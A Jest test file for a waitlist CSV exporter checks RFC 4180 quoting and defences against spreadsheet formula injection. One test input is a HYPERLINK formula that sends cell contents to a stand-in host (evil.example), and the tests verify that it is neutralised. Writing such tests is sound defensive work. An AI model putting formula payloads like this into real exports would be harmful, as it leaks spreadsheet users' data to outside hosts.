import { toCsv } from '../../../server/waitlist/csv';

/** The fields of the one row of an export with header 'v', unquoted again. */
const fieldsOf = (values: string[]) =>
  toCsv(['v'], [values])
    .slice('"v"\r\n'.length, -'\r\n'.length)
    .split('","')
    .map((field) => field.replace(/^"|"$/g, '').replace(/""/g, '"'));

describe('CSV (RFC 4180)', () => {
  it('quotes every field, doubling quotes; an empty or missing value is ""', () => {
    const values = ['plain', 'a,b', 'say "hi"', 'two\nlines', 'cr\rlf', 'ünïcödé 📝', '', null];
    expect(toCsv(['v1', 'v2', 'v3', 'v4', 'v5', 'v6', 'v7', 'v8'], [values])).toBe(
      '"v1","v2","v3","v4","v5","v6","v7","v8"\r\n' +
        '"plain","a,b","say ""hi""","two\nlines","cr\rlf","ünïcödé 📝","",""\r\n',
    );
  });

  it('keeps a spreadsheet from reading a field as a formula: an apostrophe before =, +, -, @, tab or CR first', () => {
    const values = [
      '=HYPERLINK("https://evil.example/?"&A2,"ok")',
      '+1',
      '-2',
      '@SUM(A1)',
      '\tx',
      '\rx',
      'a=b',
      'me@example.org',
    ];
    expect(toCsv(['v'], [values]).split('\r\n')[1]).toBe(
      `"'=HYPERLINK(""https://evil.example/?""&A2,""ok"")","'+1","'-2","'@SUM(A1)","'\tx","'\rx","a=b","me@example.org"`,
    );
  });

  it('also neutralises a formula after a ; , tab or line break, where a spreadsheet may start a cell', () => {
    expect(
      fieldsOf([
        'note;=1+1',
        'note,+1',
        'note\t-1',
        'note\n@SUM(1)',
        'note\r\n=1',
        '\t=1+1',
        'a;b;=1;c,-2',
        '; =1',
      ]),
    ).toEqual([
      "note;'=1+1",
      "note,'+1",
      "note\t'-1",
      "note\n'@SUM(1)",
      "note\r\n'=1",
      "'\t'=1+1",
      "a;b;'=1;c,'-2",
      '; =1',
    ]);
  });

  it('leaves formula characters inside a cell alone', () => {
    expect(fieldsOf(['1+1=2', 'a-b', 'x@y', 'a;b'])).toEqual(['1+1=2', 'a-b', 'x@y', 'a;b']);
  });

  it('ends every record with CRLF', () => {
    expect(toCsv(['a', 'b'], [['1', null]])).toBe('"a","b"\r\n"1",""\r\n');
  });
});
